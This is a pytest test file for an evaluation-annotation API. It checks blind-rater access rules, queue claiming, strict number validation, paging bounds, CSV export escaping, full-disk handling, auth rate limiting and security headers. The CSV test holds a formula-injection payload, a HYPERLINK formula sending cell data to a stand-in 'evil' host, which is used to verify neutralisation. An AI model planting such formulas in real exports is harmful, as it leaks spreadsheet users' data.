"""Issue #14 over the real API: blind raters, queue rules, strict numbers, bounds, auth limits.

Each test reproduces one finding of the issue against the real app and a real DuckDB file.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from evalguard_core import annotations, auth, claims, queues
from evalguard_core.api import create_api
from evalguard_core.errors import ConflictError
from evalguard_core.store import Scope, Store
from tests.conftest import REPO, bearer

# -- item 6: raters are blind ------------------------------------------------------------------


def test_annotator_gets_no_judge_verdict_in_cases_but_admin_and_viewer_do(
    client: TestClient, keys: dict, sample_run: str
) -> None:
    url = f"/v1/runs/{sample_run}/cases?q=France"
    rater = client.get(url, headers=bearer(keys["annotator"])).json()["cases"]
    assert [c["case_id"] for c in rater] == ["c2"] and rater[0]["scores"] == {}
    assert "fail" not in json.dumps(rater)
    for role in ("admin", "viewer"):
        seen = client.get(url, headers=bearer(keys[role])).json()["cases"]
        assert seen[0]["scores"]["llm_judge"]["label"] == "fail"
    # Filtering on the verdict would reveal it just as well.
    r = client.get(
        f"/v1/runs/{sample_run}/cases?label_scorer=llm_judge&label=fail",
        headers=bearer(keys["annotator"]),
    )
    assert r.status_code == 403 and r.json()["error"]["details"]["field"] == "label_scorer"
    summary = client.get(f"/v1/runs/{sample_run}", headers=bearer(keys["annotator"])).json()
    assert "pass" not in json.dumps(summary["scorers"])


def test_annotator_cannot_read_alignment_pairs_jobs_or_others_labels(
    client: TestClient, scope: Scope, keys: dict, sample_run: str, open_queue_id: str
) -> None:
    for name, label in (("annotator_user", "pass"), ("other_rater", "fail")):
        annotations.create_annotation(
            scope,
            annotator=name,
            target_id=f"{sample_run}:c{1 if name == 'annotator_user' else 2}",
            target_type="eval_case",
            label=label,
            queue_id=open_queue_id,
        )
    h = bearer(keys["annotator"])
    r = client.get(f"/v1/alignment?run_id={sample_run}&judge=llm_judge", headers=h)
    assert r.status_code == 403 and r.json()["error"]["details"]["reason"] == "blind_rater"
    assert (
        client.get(f"/v1/exports/paired?run_id={sample_run}&judge=llm_judge", headers=h).status_code
        == 403
    )
    mine = client.get("/v1/exports/annotations?format=jsonl", headers=h).text.splitlines()
    assert [json.loads(line)["annotator"] for line in mine] == ["annotator_user"]
    items = client.get(f"/v1/exports/queue_items?queue_id={open_queue_id}&format=jsonl", headers=h)
    assert "stratum" not in json.loads(items.text.splitlines()[0])
    # Admins keep everything.
    everyone = client.get("/v1/exports/annotations?format=jsonl", headers=bearer(keys["admin"]))
    assert sorted(json.loads(x)["annotator"] for x in everyone.text.splitlines()) == [
        "annotator_user",
        "other_rater",
    ]
    assert (
        client.get(
            f"/v1/alignment?run_id={sample_run}&judge=llm_judge&n_boot=0",
            headers=bearer(keys["viewer"]),
        ).status_code
        == 200
    )


# -- item 7: a label in a queue obeys the queue ------------------------------------------------


def test_five_raters_without_a_claim_get_409_and_the_item_keeps_one_label(
    client: TestClient, store: Store, sample_run: str, queue_id: str
) -> None:
    raters = [auth.create_key(store, name=f"r{i}", role="annotator")["key"] for i in range(5)]
    body = {"target_id": f"{sample_run}:c1", "target_type": "eval_case", "queue_id": queue_id}
    answers = [
        client.post("/v1/annotations", json={**body, "label": "pass"}, headers=bearer(k))
        for k in raters
    ]
    assert {r.status_code for r in answers} == {409}
    assert {r.json()["error"]["details"]["reason"] for r in answers} == {"not_claimed"}
    # The rater holding the lease labels it; nobody else can add a second label.
    claimed = client.post(
        "/v1/annotations/queue", json={"queue_id": queue_id}, headers=bearer(raters[0])
    )
    target = claimed.json()["item"]["target_id"]
    ok = client.post(
        "/v1/annotations",
        json={**body, "target_id": target, "label": "pass"},
        headers=bearer(raters[0]),
    )
    assert ok.status_code == 200
    late = client.post(
        "/v1/annotations",
        json={**body, "target_id": target, "label": "fail"},
        headers=bearer(raters[1]),
    )
    assert late.status_code == 409
    assert store.db.fetchall("SELECT count(*) FROM annotations") == [(1,)]


def test_unclaimed_labelling_never_exceeds_the_overlap_under_real_threads(
    scope: Scope, sample_run: str
) -> None:
    queue = queues.create_queue(scope, name="open", annotations_per_item=2, allow_unclaimed=True)
    queues.add_items(scope, queue["queue_id"], [f"{sample_run}:c1"])
    outcomes: list[str] = []
    lock = threading.Lock()

    def label(i: int) -> None:
        try:
            annotations.create_annotation(
                scope,
                annotator=f"r{i}",
                target_id=f"{sample_run}:c1",
                target_type="eval_case",
                label="pass",
                queue_id=queue["queue_id"],
            )
            result = "ok"
        except ConflictError as exc:
            result = exc.details["reason"]
        with lock:
            outcomes.append(result)

    threads = [threading.Thread(target=label, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert sorted(outcomes) == ["item_full"] * 6 + ["ok"] * 2
    assert scope.db.fetchall("SELECT count(*) FROM annotations") == [(2,)]


def test_unclaimed_label_waits_for_an_item_someone_else_holds(
    scope: Scope, sample_run: str
) -> None:
    queue = queues.create_queue(scope, name="open", allow_unclaimed=True)
    queues.add_items(scope, queue["queue_id"], [f"{sample_run}:c1"])
    claims.claim_next(scope, queue["queue_id"], "holder")
    with pytest.raises(ConflictError) as refused:
        annotations.create_annotation(
            scope,
            annotator="other",
            target_id=f"{sample_run}:c1",
            target_type="eval_case",
            label="pass",
            queue_id=queue["queue_id"],
        )
    assert refused.value.details["reason"] == "held_by_other"


# -- item 9: strict numbers --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "field"),
    [
        ('{"name": "q", "score_min": NaN}', "score_min"),
        ('{"name": "q", "score_max": Infinity}', "score_max"),
        ('{"name": "q", "score_max": 1e309}', "score_max"),
        ('{"name": "q", "annotations_per_item": true}', "annotations_per_item"),
        ('{"name": "q", "lease_seconds": "900"}', "lease_seconds"),
    ],
)
def test_queue_numbers_reject_non_finite_and_loose_types(
    client: TestClient, keys: dict, raw: str, field: str
) -> None:
    r = client.post(
        "/v1/annotations/queues",
        content=raw,
        headers={**bearer(keys["admin"]), "content-type": "application/json"},
    )
    assert r.status_code == 400, r.text
    assert r.json()["error"]["details"]["field"] == field


@pytest.mark.parametrize("score", ["true", '"3"', "NaN", "-Infinity", "1e400"])
def test_annotation_score_rejects_non_numbers(
    client: TestClient, keys: dict, sample_run: str, score: str
) -> None:
    raw = f'{{"target_id": "{sample_run}:c1", "target_type": "eval_case", "score": {score}}}'
    r = client.post(
        "/v1/annotations",
        content=raw,
        headers={**bearer(keys["annotator"]), "content-type": "application/json"},
    )
    assert r.status_code == 400 and r.json()["error"]["details"]["field"] == "score"


def test_core_queue_settings_refuse_nan_too(scope: Scope) -> None:
    from evalguard_core.errors import ValidationError

    with pytest.raises(ValidationError) as bad:
        queues.create_queue(scope, name="q", score_min=float("nan"))
    assert bad.value.details["field"] == "score_min"


# -- item 10: bounded paging -------------------------------------------------------------------


def test_huge_offsets_are_400_not_500(
    client: TestClient, keys: dict, sample_run: str, queue_id: str
) -> None:
    h = bearer(keys["admin"])
    for url in (
        f"/v1/runs/{sample_run}/cases?offset=9223372036854775808",
        f"/v1/annotations/queues/{queue_id}/events?offset=9223372036854775808",
    ):
        r = client.get(url, headers=h)
        assert r.status_code == 400 and r.json()["error"]["details"]["field"] == "offset"


# -- item 8: CSV formula injection -------------------------------------------------------------


def test_csv_export_neutralises_formulas_and_jsonl_keeps_text(
    client: TestClient, scope: Scope, keys: dict, sample_run: str
) -> None:
    comments = ['=HYPERLINK("http://evil"&A2,"x")', "@SUM(A1)", "+1", "-1", "\tx", "\rx"]
    for i, comment in enumerate(comments):
        annotations.create_annotation(
            scope,
            annotator=f"r{i}",
            target_id=f"{sample_run}:c1",
            target_type="eval_case",
            label="pass",
            comment=f"{comment}",
        )
    h = bearer(keys["admin"])
    rows = list(csv.DictReader(io.StringIO(client.get("/v1/exports/annotations", headers=h).text)))
    # Leading tab/CR: the comment field is stripped of surrounding whitespace on the way in.
    assert all(not r["comment"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)
    assert '\'=HYPERLINK("http://evil"&A2,"x")' in {r["comment"] for r in rows}
    jsonl = client.get("/v1/exports/annotations?format=jsonl", headers=h).text.splitlines()
    assert '=HYPERLINK("http://evil"&A2,"x")' in {json.loads(x)["comment"] for x in jsonl}


# -- item 11: storage failure is 503, not a claim conflict ------------------------------------

_FULL_DISK = """
import json, logging, resource, signal, sys
from fastapi.testclient import TestClient
from evalguard_core import auth, queues, runs
from evalguard_core.api import create_api
from evalguard_core.store import Store
logging.basicConfig(level=logging.ERROR, stream=sys.stderr)
store = Store.open(sys.argv[1])
scope = store.scope()
run = runs.import_run(scope, sys.argv[2], name="r").run_id
queue = queues.create_queue(scope, name="q")
queues.add_items(scope, queue["queue_id"], [f"{run}:c1"])
key = auth.create_key(store, name="ann", role="annotator")["key"]
client = TestClient(create_api(store))
h = {"Authorization": f"Bearer {key}"}
client.get("/v1/runs", headers=h)  # the key is cached before the disk 'fills'
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (0, resource.RLIM_INFINITY))
r = client.post("/v1/annotations/queue", json={"queue_id": queue["queue_id"]}, headers=h)
print(json.dumps({"status": r.status_code, "body": r.json()}))
"""


def test_a_full_disk_answers_503_and_logs_the_cause(tmp_path: Path, sample_csv: Path) -> None:
    out = subprocess.run(
        [sys.executable, "-c", _FULL_DISK, str(tmp_path / "s.duckdb"), str(sample_csv)],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
    )
    result = json.loads(out.stdout.strip().splitlines()[-1])
    assert result["status"] == 503, result
    assert result["body"]["error"]["code"] == "store_unavailable"
    assert result["body"]["error"]["details"]["retryable"] is False
    assert "storage failure" in out.stderr


# -- item 13: failed authentication is rate-limited per address -------------------------------


def test_bad_keys_are_limited_per_address_without_locking_out_a_working_key(
    store: Store, keys: dict
) -> None:
    client = TestClient(create_api(store, auth_fail_limit="5/minute"))
    good = bearer(keys["annotator"])
    assert client.get("/v1/runs", headers=good).status_code == 200  # known (cached) key
    codes = [client.get("/v1/runs", headers=bearer(f"eg_bad{i}")).status_code for i in range(8)]
    assert codes[:5] == [401] * 5 and codes[5:] == [429] * 3
    limited = client.get("/v1/runs")  # no key at all counts too
    assert limited.status_code == 429 and int(limited.headers["Retry-After"]) >= 1
    assert limited.json()["error"]["details"]["reason"] == "auth_failures"
    assert client.get("/v1/runs", headers=good).status_code == 200


# -- item 14: docs without the internet --------------------------------------------------------


def test_docs_and_redoc_load_only_local_assets(client: TestClient) -> None:
    for path in ("/docs", "/redoc"):
        page = client.get(path)
        assert page.status_code == 200
        urls = [u for u in page.text.split('"') if u.startswith(("http://", "https://", "//"))]
        assert urls == [], f"{path} loads {urls}"
    for asset in ("swagger-ui-bundle.js", "swagger-ui.css", "redoc.standalone.js"):
        assert client.get(f"/docs-assets/{asset}").status_code == 200


def test_api_responses_carry_csp_and_frame_protection(client: TestClient) -> None:
    r = client.get("/health")
    assert "img-src 'self' data: blob:" in r.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    assert r.headers["x-frame-options"] == "DENY"
